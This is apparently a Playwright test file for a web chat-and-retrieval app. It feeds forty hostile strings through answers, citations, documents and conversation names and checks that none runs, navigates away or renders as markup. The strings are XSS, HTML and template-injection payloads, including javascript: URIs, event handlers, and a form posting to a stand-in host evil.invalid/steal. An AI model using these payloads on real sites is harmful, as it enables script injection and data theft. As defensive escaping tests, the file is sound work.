"""Forty hostile texts wherever the page shows what others wrote: nothing runs, leaves or passes for ours."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from app.answer import Answer, Checked, Disagreement, Event, Found, LeftOut, Position, Remark, Statement, Text
from app.web.turn import MARKER
from retrieval.documents import Document
from tests.browser import Watched, chromium, served
from tests.scripted import ScriptedBot, cite, hit

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

FAR = "http://evil.invalid"
PAYLOADS = (
    "<script>pwn()</script>",
    "<ScRiPt src=//evil.invalid/x.js></sCrIpT>",
    "<img src=x onerror=pwn()>",
    "<svg onload=pwn()><script>pwn()</script></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwn()></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    f"<iframe src={FAR}/frame></iframe>",
    f"<meta http-equiv=refresh content='0;url={FAR}/gone'>",
    f"<base href={FAR}/>",
    f"<link rel=stylesheet href={FAR}/a.css>",
    f"<style>@import '{FAR}/b.css'; * {{ display: none }}</style>",
    f"<div style='position:fixed;inset:0;background:url({FAR}/c.png)'>over all</div>",
    f"<form action={FAR}/steal><input name=q autofocus onfocus=pwn()><button>Go</button></form>",
    "<button formaction=javascript:pwn()>click</button>",
    "<details open ontoggle=pwn()><summary>s</summary></details>",
    "<video src=x onerror=pwn()><source onerror=pwn()></video>",
    "<object data=javascript:pwn()></object><embed src=javascript:pwn()>",
    "<a href=javascript:pwn()>here</a>",
    "<button class='cite c-1-1'>1</button>",
    "<div class='card d-000000000000 at-0-5' id='e-1-1'><button class='open'>1</button></div>",
    "<table class='differ'><caption>The sources differ: all</caption><tr><th>1</th></tr></table>",
    "</p></div></div><h1>Above all</h1>",
    "<!-- <b> --><!--[if IE]><script>pwn()</script><![endif]-->",
    f"![image]({FAR}/d.png)",
    "![image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduKCk+)",
    "[link](javascript:pwn()) [other](data:text/html,<script>pwn()</script>)",
    f"<{FAR}/auto> {FAR}/bare www.evil.invalid someone@evil.invalid",
    "[ref]: javascript:pwn() 'title'\n\n[ref]",
    "# Heading\n\n- list\n\n> quote\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    "```html\n<script>pwn()</script>\n```",
    "$$\\href{javascript:pwn()}{x}$$ \\(x\\) $x$",
    "{{constructor.constructor('pwn()')()}} ${pwn()} #{pwn()} <%= pwn() %> {% x %}",
    "&lt;script&gt;pwn()&lt;/script&gt; &#60;img src=x onerror=pwn()&#62;",
    "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe\N{POP DIRECTIONAL FORMATTING} \N{RIGHT-TO-LEFT ISOLATE}abc",
    "w\N{ZERO WIDTH SPACE}o\N{ZERO WIDTH JOINER}r\N{WORD JOINER}d\N{ZERO WIDTH NO-BREAK SPACE}s",
    "Supercalifragilistic" * 60,
    '\'"><script>pwn()</script><img title="',
    "\x3cscript\x3epwn()\x3c/script\x3e\\u003cscript\\u003epwn()\\u003c/script\\u003e",
    "<p id=ask><textarea id=conversation>x</textarea></p><xmp><plaintext><noscript><template>",
)
FORBIDDEN = (
    "script img iframe svg math object embed form meta base link style video audio source input textarea template xmp "
    "h1 code pre blockquote"
).split()
FOREIGN = ".answer, .question, #evidence, #reading, #library .documents, #conversations .list, .tip"
GROUP = 10


def written(payload: str, number: int) -> Document:
    addresses = (f"/news/{payload}.md", f"javascript:{payload}", f"https://evil.invalid/{payload}")
    return Document(
        text=f"It begins.\n\n{payload}\n\nAnd it ends ({number}).",
        title=payload,
        uri=addresses[number % 3],
        source=payload,
        author=payload,
    )


DOCUMENTS = [written(payload, number) for number, payload in enumerate(PAYLOADS)]


def answer_with(group: int) -> Iterator[Event]:
    """An answer in which every word is hostile: ten sentences, each with a citation of its own, and all else it has."""
    payloads = PAYLOADS[group * GROUP : (group + 1) * GROUP]
    documents = DOCUMENTS[group * GROUP : (group + 1) * GROUP]
    held = tuple(
        replace(cite(n, document, payload, payload), role=payload, said=payload, dated_by="text")
        for n, (document, payload) in enumerate(zip(documents, payloads, strict=True), start=1)
    )
    said = tuple(
        Statement(payload, "verbatim" if n % 2 else "supported", (n,)) for n, payload in enumerate(payloads, start=1)
    )
    remark = Remark(payloads[0], payloads[0], payloads[0], "text", "direct", payloads[0], (1,), 0)
    positions = tuple(Position(payload, (n,), (payload,), (payload,)) for n, payload in enumerate(payloads, start=1))
    yield Found(payloads[0], tuple(map(hit, documents)))
    for payload in payloads:
        yield Text(payload)
    for statement, citation in zip(said, held, strict=True):
        yield Checked(statement, (citation,))
    yield Answer(
        payloads[0],
        True,
        "\n".join(payloads),
        said,
        tuple(LeftOut(payload, payload) for payload in payloads),
        held,
        (Disagreement(payloads[1], positions),),
        model=payloads[2],
        notes=payloads,
        remarks=(remark,),
        missing=payloads,
    )


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as running:
        yield running


@pytest.fixture(scope="module")
def address() -> Iterator[str]:
    scripts = {f"group {n}": lambda _, n=n: answer_with(n) for n in range(len(PAYLOADS) // GROUP)}
    with served(ScriptedBot(scripts, list(DOCUMENTS))) as at:
        yield at


def nothing_foreign_is_markup(page: Page) -> None:
    assert page.evaluate("globalThis.pwned") == 0
    found = page.evaluate(
        """([areas, tags]) => [...document.querySelectorAll(areas)].flatMap((area) =>
        [area, ...area.querySelectorAll("*")].filter((e) => tags.includes(e.localName) && e.type !== "checkbox"
          || [...e.attributes].some((a) => /^on/.test(a.name) || a.name === "href" && /^\\s*javascript:/i.test(a.value))
          || e.localName === "a" && !(e.matches(".original, #conversations a") && /^https?:/.test(e.href)))
        .map((e) => e.outerHTML.slice(0, 120)))""",
        [FOREIGN, FORBIDDEN],
    )
    assert found == []


def flat(text: str) -> str:
    return " ".join(text.split())


def test_there_are_forty_of_them() -> None:
    assert len(set(PAYLOADS)) == 40


@pytest.mark.parametrize("group", range(len(PAYLOADS) // GROUP))
def test_hostile_words_are_words_everywhere(browser: Browser, address: str, group: int) -> None:
    payloads = PAYLOADS[group * GROUP : (group + 1) * GROUP]
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    watched = Watched(context.new_page(), address)
    page = watched.page
    page.evaluate("globalThis.pwned = 0; globalThis.pwn = () => { globalThis.pwned = 1 }; 0")
    left: list[str] = []
    page.on("framenavigated", lambda frame: left.append(frame.url) if not frame.url.startswith(address) else None)
    question = f"group {group} " + " ".join(map(flat, payloads))
    watched.ask(question)
    page.wait_for_selector(".answer .colophon")
    assert flat(page.locator(".question").last.evaluate("e => e.textContent")) == flat(question)
    words = page.locator(".said .words").evaluate_all(
        "all => all.map(e => { const c = e.cloneNode(true); c.querySelectorAll('button').forEach(b => b.remove()); "
        "return c.textContent })"
    )
    assert list(map(flat, words)) == [flat(MARKER.sub("", payload)) for payload in payloads]
    assert page.locator("#chat button.cite").count() == 2 * GROUP, "one for each sentence and one for each value"
    assert page.locator("#evidence .card").count() == GROUP
    assert page.locator("#chat table.differ").count() == 1
    page.locator(".out summary").click()
    nothing_foreign_is_markup(page)
    for number, payload in enumerate(payloads, start=1):
        page.locator(f"#chat button.c-1-{number}").first.hover()
        page.locator(f"#evidence #e-1-{number} .open").evaluate("e => e.click()")
        page.wait_for_selector(f"#reading .place:text('Quote {number} of {GROUP}')")
        page.wait_for_selector("#reading .piece mark")
        assert page.locator("#reading mark").evaluate("e => e.textContent") == payload
        assert flat(page.locator("#reading h2").evaluate("e => e.textContent")) == flat(payload)
        nothing_foreign_is_markup(page)
    page.locator("#side [role=tab]").nth(1).click()
    page.wait_for_selector("#library .documents .title")
    nothing_foreign_is_markup(page)
    shown = page.evaluate("document.documentElement.scrollWidth")
    assert shown <= 1280
    assert left == []
    assert page.url.startswith(address)
    context.close()
    assert watched.troubles == []


def test_a_hostile_name_of_a_conversation_is_a_name(browser: Browser, address: str) -> None:
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    watched = Watched(context.new_page(), address)
    page = watched.page
    watched.ask("group 0")
    page.wait_for_selector(".answer .colophon")
    page.wait_for_url("**/?c=*")
    id = page.url.split("c=")[1]
    for payload in PAYLOADS:
        name = flat(payload)[:200]
        status = page.evaluate(
            "([id, body]) => fetch(`/api/conversations/${id}`, {method: 'PATCH', body, "
            "headers: {'Content-Type': 'application/json'}}).then((reply) => reply.status)",
            [id, json.dumps({"name": name})],
        )
        assert status == 200, payload
        page.locator("#conversations input").fill("")
        page.locator("#conversations input").fill("group")
        page.wait_for_function(
            "name => [...document.querySelectorAll('#conversations li > a')].some(a => a.textContent.trim() === name)",
            arg=name.strip(),
        )
        page.evaluate("globalThis.pwned ??= 0")
        nothing_foreign_is_markup(page)
    page.reload()
    page.wait_for_selector("#conversations li > a")
    page.evaluate("globalThis.pwned ??= 0")
    nothing_foreign_is_markup(page)
    assert page.title().endswith("Onrecord")
    context.close()
    assert watched.troubles == []
